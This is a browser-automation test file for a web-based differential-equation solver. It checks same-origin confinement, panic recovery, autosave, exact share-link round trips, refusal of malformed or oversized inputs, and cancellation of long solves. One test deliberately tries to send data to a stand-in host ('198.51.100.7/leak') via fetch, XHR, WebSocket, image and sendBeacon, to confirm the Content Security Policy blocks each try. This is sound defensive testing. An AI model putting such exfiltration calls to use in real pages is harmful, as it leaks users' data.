// The page under hostile conditions: no request leaves the page's origin, a
// panic in the solver leaves a working page with the sheet kept, broken or
// oversized links and files are refused with a clear message, nothing typed
// is lost (reload, panic, failed solve, opening a link over unsaved edits),
// numbers round-trip bit for bit, and a long solve in the worker can be
// cancelled.
import { test, before, after } from "node:test";
import assert from "node:assert/strict";
import { readFileSync, writeFileSync, mkdtempSync } from "node:fs";
import { join } from "node:path";
import { tmpdir } from "node:os";
import { deflateRawSync } from "node:zlib";
import { SINGLE_FILE_URL, serveWww, launch, openPage } from "./harness.mjs";
import { dialogText, pasteSheet } from "./pagekit.mjs";

let server, context;
before(async () => { server = await serveWww(); context = await launch(); });
after(async () => { await context?.close(); await server?.close(); });

const COOLING = "# cooling\nT' = -0.0021*(T - 22)\nT(0) = 180\n";

async function ready(page) {
  await page.waitForFunction(() => document.body.dataset.ready === "1", null, { timeout: 20000 });
}

async function typeSheet(page, text) {
  await pasteSheet(page, text);
  await page.waitForTimeout(450);
}

function fragment(kept, v = 2) {
  return "m=" + deflateRawSync(Buffer.from(JSON.stringify({ v, ...kept }))).toString("base64url");
}

const notice = (page) => page.waitForSelector("#notice:not([hidden])").then(() => page.textContent("#notice"));

for (const [label, url] of [["served page", () => server.url], ["single file", () => SINGLE_FILE_URL]]) {
  test(`${label}: every request stays on the page's own origin, and the CSP forbids the rest`, async () => {
    const { page, requests, offRequests, errors } = await openPage(context, url());
    await ready(page);
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
    assert.match(csp, /connect-src 'none'/);
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, /'wasm-unsafe-eval'/);
    assert.doesNotMatch(csp, /'unsafe-eval'/);
    assert.doesNotMatch(csp, /https?:|\*/, "no remote source is allowed");
    // Work the page: edit, examples, the comparison in the worker, a share link.
    await typeSheet(page, COOLING);
    const examples = await page.$$eval("#examples option", (o) => o.map((x) => x.value).filter(Boolean));
    for (const id of examples) {
      await page.selectOption("#examples", id);
      await page.waitForTimeout(200);
    }
    await page.click("#share");
    await page.click("#dialog-close");
    await page.waitForTimeout(200);
    assert.deepEqual(offRequests(), [], `requests off the page: ${offRequests().join(", ")}`);
    assert.ok(requests.length > 0);
    // Try to phone home from inside the page: the CSP refuses every way, and
    // says so in a securitypolicyviolation event for each.
    const answered = [];
    page.on("response", (r) => { if (r.url().includes("198.51.100.7")) answered.push(r.url()); });
    const tries = await page.evaluate(async () => {
      const target = "http://198.51.100.7/leak";
      const blocked = [];
      document.addEventListener("securitypolicyviolation", (e) => blocked.push(e.violatedDirective.split(" ")[0]));
      const out = {};
      const settle = (setup) => new Promise((ok) => { setup(ok); setTimeout(() => ok("timeout"), 1500); });
      out.fetch = await fetch(target).then(() => "loaded", () => "refused");
      out.xhr = await settle((ok) => { const x = new XMLHttpRequest(); x.onload = () => ok("loaded"); x.onerror = () => ok("refused"); x.open("GET", target); x.send(); });
      out.ws = await settle((ok) => { try { const w = new WebSocket("ws://198.51.100.7/"); w.onopen = () => ok("loaded"); w.onerror = () => ok("refused"); } catch { ok("refused"); } });
      out.img = await settle((ok) => { const i = new Image(); i.onload = () => ok("loaded"); i.onerror = () => ok("refused"); i.src = target + ".png"; });
      try { navigator.sendBeacon(target, "x"); } catch { /* refused */ }
      await new Promise((ok) => setTimeout(ok, 300));
      return { out, blocked };
    });
    for (const [how, result] of Object.entries(tries.out)) assert.notEqual(result, "loaded", how);
    assert.ok(tries.blocked.filter((d) => d === "connect-src").length >= 3, JSON.stringify(tries.blocked));
    assert.ok(tries.blocked.includes("img-src"), JSON.stringify(tries.blocked));
    // None of the tries got an answer (the browser may still report the
    // blocked attempt as a failed request).
    assert.deepEqual(answered, []);
    // The only console errors are the CSP's own refusals of the tries above.
    assert.deepEqual(errors.filter((e) => !/Content Security Policy|198\.51\.100\.7|Failed to fetch|ERR_/.test(e)), []);
    await page.close();
  });
}

test("a panic in the solver leaves a working page, reports the message and keeps the sheet", async () => {
  const { page, errors } = await openPage(context, server.url);
  await ready(page);
  const sheet = "# kept through a panic\nk = 0.7\ndy/dt = -k*y\ny(0) = 3\n";
  await typeSheet(page, sheet);
  const before = await page.textContent("#summary");
  // Arm the deliberate panic (inert otherwise): the page's next solve panics.
  await page.evaluate(() => { window.ratebookArmTestPanic = true; });
  await typeSheet(page, sheet + "# edited\n");
  await page.waitForSelector("#problem:not([hidden])");
  assert.match(await page.textContent("#problem"), /internal error.*deliberate test panic.*restarted/s);
  assert.equal(await page.inputValue("#sheet"), sheet + "# edited\n", "the sheet is kept");
  assert.ok(errors.some((e) => /deliberate test panic/.test(e)), "the hook reported the message on the console");
  // The autosave holds the edit made just before the panic.
  assert.equal(await page.evaluate(() => JSON.parse(localStorage.getItem(`ratebook.autosave.v2 ${location.href.split(/[?#]/)[0]}`)).sheet), sheet + "# edited\n");
  // The restarted solver works: the next edit solves and draws.
  await typeSheet(page, sheet.replace("0.7", "0.9"));
  await page.waitForSelector("#problem", { state: "hidden" });
  assert.notEqual(await page.textContent("#summary"), before);
  assert.equal(await page.evaluate(() => window.ratebookArmTestPanic), false);
  // And a reload brings the sheet back.
  await page.reload();
  await ready(page);
  assert.equal(await page.inputValue("#sheet"), sheet.replace("0.7", "0.9"));
  await page.close();
});

test("autosave survives a reload after a failed solve and after a sheet error", async () => {
  const { page } = await openPage(context, server.url);
  await ready(page);
  const blowUp = "# runs away\ndy/dt = y^2\ny(0) = 1\n";
  await typeSheet(page, blowUp);
  await page.reload();
  await ready(page);
  assert.equal(await page.inputValue("#sheet"), blowUp);
  const broken = "# half typed\ndy/dt = -k*(y\ny(0) = 1\n";
  await typeSheet(page, broken);
  await page.reload();
  await ready(page);
  assert.equal(await page.inputValue("#sheet"), broken);
  await page.close();
});

test("opening a link over unsaved edits keeps the previous sheet one click away", async () => {
  const { page } = await openPage(context, server.url);
  await ready(page);
  const mine = "# my unsaved work\nr = 0.05\ndx/dt = r*x\nx(0) = 10\n";
  await typeSheet(page, mine);
  const theirs = { sheet: "# from a link\ndz/dt = -z\nz(0) = 2\n", settings: { to: 4 } };
  await page.evaluate((h) => { location.hash = h; }, fragment(theirs));
  await page.waitForFunction((s) => document.getElementById("sheet").value === s, theirs.sheet);
  await page.waitForSelector("#restore-previous:not([hidden])");
  await page.click("#restore-previous");
  await page.waitForFunction((s) => document.getElementById("sheet").value === s, mine);
  await page.close();
});

test("share link and file round trips are exact, bit for bit, for awkward numbers", async () => {
  const { page } = await openPage(context, server.url);
  await ready(page);
  const sheet = "# awkward numbers\nk = 0.30000000000000004\ntiny = 5e-324\nbig = 1.7976931348623157e308\ndy/dt = -k*y + tiny*big*0\ny(0) = 0.1\n";
  const settings = { to: 12.345678901234567, method: "dormand-prince-5", tolerance: { relative: 1.0000000000000002e-7, absolute: 3.0000000000000004e-13 } };
  const want = { to: settings.to, "tol-relative": settings.tolerance.relative, "tol-absolute": settings.tolerance.absolute };
  await page.evaluate((h) => { location.hash = h; }, fragment({ sheet, settings }));
  await page.waitForFunction((s) => document.getElementById("sheet").value === s, sheet);
  const read = () => page.evaluate(() => Object.fromEntries(["to", "tol-relative", "tol-absolute"].map((id) => [id, Number(document.getElementById(id).value)])));
  const shown = await read();
  for (const k of Object.keys(want)) assert.ok(Object.is(shown[k], want[k]), `${k}: ${shown[k]} vs ${want[k]}`);
  // The page's own link, opened again, gives the same sheet and numbers.
  // The link is compressed asynchronously: wait for the dialog to hold it.
  const url = await dialogText(page, "#share");
  const again = await context.newPage();
  await again.goto(url);
  await ready(again);
  assert.equal(await again.inputValue("#sheet"), sheet);
  const shown2 = await again.evaluate(() => Object.fromEntries(["to", "tol-relative", "tol-absolute"].map((id) => [id, Number(document.getElementById(id).value)])));
  for (const k of Object.keys(want)) assert.ok(Object.is(shown2[k], want[k]), `${k} after the page's own link`);
  await again.close();
  await page.close();
});

test("version-1 links, files and autosaves open with their old names mapped to today's", async () => {
  // Version 1 wrote `rtol`/`atol` and the old method ids (dp54, radau5, …).
  const v1 = { sheet: COOLING, settings: { to: 77, method: "radau5", rtol: 2e-7, atol: 3e-11 } };
  const shown = (page) => page.evaluate(() => ({
    to: Number(document.getElementById("to").value), method: document.getElementById("method").value,
    relative: Number(document.getElementById("tol-relative").value), absolute: Number(document.getElementById("tol-absolute").value) }));
  const want = { to: 77, method: "radau-iia-5", relative: 2e-7, absolute: 3e-11 };
  const { page } = await openPage(context, server.url);
  await ready(page);
  await page.evaluate((h) => { location.hash = h; }, fragment(v1, 1));
  await page.waitForFunction(() => document.getElementById("to").value === "77");
  assert.deepEqual(await shown(page), want, "link");
  await page.waitForFunction(() => document.querySelector("#summary").textContent.includes("t = 77"));
  // A file of version 1, with each old id.
  const dir = mkdtempSync(join(tmpdir(), "ratebook-v1-"));
  for (const [old, id] of [["dp54", "dormand-prince-5"], ["dp853", "dormand-prince-8"], ["bs32", "bogacki-shampine-3"], ["rodas4", "rosenbrock-4"], ["beuler", "backward-euler"]]) {
    const f = join(dir, `${old}.json`);
    writeFileSync(f, JSON.stringify({ format: "ratebook-model", version: 1, ratebook: "0.1.0", sheet: COOLING, settings: { ...v1.settings, method: old, step: 0.5 } }));
    await page.setInputFiles("#open-input", f);
    await page.waitForFunction((m) => document.getElementById("method").value === m, id);
  }
  // A version-1 autosave is read at start and saved again as version 2.
  const fresh = await context.newPage();
  await fresh.addInitScript((kept) => {
    if (!sessionStorage.getItem("seeded")) {
      localStorage.clear();
      localStorage.setItem("ratebook.autosave.v1", JSON.stringify(kept));
      sessionStorage.setItem("seeded", "1");
    }
  }, { ...v1, sheet: COOLING + "# autosaved\n" });
  await fresh.goto(server.url);
  await ready(fresh);
  assert.equal(await fresh.inputValue("#sheet"), COOLING + "# autosaved\n");
  assert.deepEqual(await shown(fresh), want, "autosave");
  await typeSheet(fresh, COOLING + "# autosaved again\n");
  const saved = await fresh.evaluate(() => JSON.parse(localStorage.getItem(`ratebook.autosave.v2 ${location.href.split(/[?#]/)[0]}`)));
  assert.deepEqual(saved.settings.tolerance, { relative: 2e-7, absolute: 3e-11 });
  assert.equal(saved.settings.method, "radau-iia-5");
  await fresh.close();
  await page.close();
});

test("malformed, oversized, wrong-version and truncated links and files are refused with a clear message", async () => {
  const { page } = await openPage(context, server.url);
  await ready(page);
  await typeSheet(page, COOLING);
  const good = fragment({ sheet: COOLING, settings: { to: 100 } });
  const links = [
    [fragment({ sheet: COOLING, settings: {} }, 99), /version/],
    [good.slice(0, good.length - 7), /damaged|cut short/],
    ["m=" + "A".repeat((1 << 20) + 10), /over 1 MB/],
    ["m=" + deflateRawSync(Buffer.from(JSON.stringify({ v: 1, sheet: "#".repeat((1 << 20) + 1) }))).toString("base64url"), /over 1 MB/],
    ["m=%%%not-base64%%%", /never has|damaged/],
    ["m=" + deflateRawSync(Buffer.from("[1,2,3]")).toString("base64url"), /version|no model/],
  ];
  for (const [frag, msg] of links) {
    await page.evaluate(() => { document.getElementById("notice").hidden = true; });
    await page.evaluate((h) => { location.hash = h; }, frag);
    assert.match(await notice(page), msg, frag.slice(0, 40));
    assert.equal(await page.inputValue("#sheet"), COOLING, "a refused link leaves the sheet alone");
  }
  const dir = mkdtempSync(join(tmpdir(), "ratebook-files-"));
  const fileGood = JSON.stringify({ format: "ratebook-model", version: 1, sheet: COOLING, settings: { to: 50 } });
  const files = [
    [JSON.stringify({ format: "ratebook-model", version: 3, sheet: COOLING }), /version 3; this page reads versions 1 to 2/],
    [fileGood.slice(0, fileGood.length - 9), /not JSON|damaged|cut short/],
    [" ".repeat((1 << 20) + 1), /over 1 MB/],
    [JSON.stringify({ format: "something-else", version: 1, sheet: COOLING }), /not a ratebook model/],
    [JSON.stringify({ format: "ratebook-model", version: 1, sheet: 42 }), /no sheet/],
    [JSON.stringify({ format: "ratebook-model", version: 1, sheet: COOLING, settings: { to: "1e999" } }), /setting/],
  ];
  for (const [i, [text, msg]] of files.entries()) {
    const f = join(dir, `bad${i}.json`);
    writeFileSync(f, text);
    await page.evaluate(() => { document.getElementById("notice").hidden = true; });
    await page.setInputFiles("#open-input", f);
    assert.match(await notice(page), msg, `file ${i}`);
    assert.equal(await page.inputValue("#sheet"), COOLING, "a refused file leaves the sheet alone");
  }
  await page.close();
});

test("a long solve in the worker can be cancelled, and the page goes on working", async () => {
  const { page } = await openPage(context, server.url);
  await ready(page);
  // 150 coupled states at a fixed small step: far more than a frame's work.
  let sheet = "k = 2\n";
  for (let i = 0; i < 150; i++) sheet += `du${i}/dt = k*(${i ? `u${i - 1}` : "1"} - u${i})\nu${i}(0) = 0\n`;
  await page.selectOption("#method", "rk4");
  await page.fill("#step", "0.0001");
  await page.fill("#to", "100");
  await typeSheet(page, sheet);
  await page.waitForSelector("#busy:not([hidden])", { timeout: 20000 });
  // The page stays responsive while the worker runs.
  assert.equal(await page.evaluate(() => 1 + 1), 2);
  await page.click("#busy-cancel");
  await page.waitForSelector("#busy", { state: "hidden" });
  assert.match(await notice(page), /Cancelled/);
  // The next solve works (a fresh worker or the page's own solver).
  await page.selectOption("#method", "auto");
  await typeSheet(page, COOLING);
  await page.waitForFunction(() => /T/.test(document.getElementById("summary").textContent));
  await page.close();
});
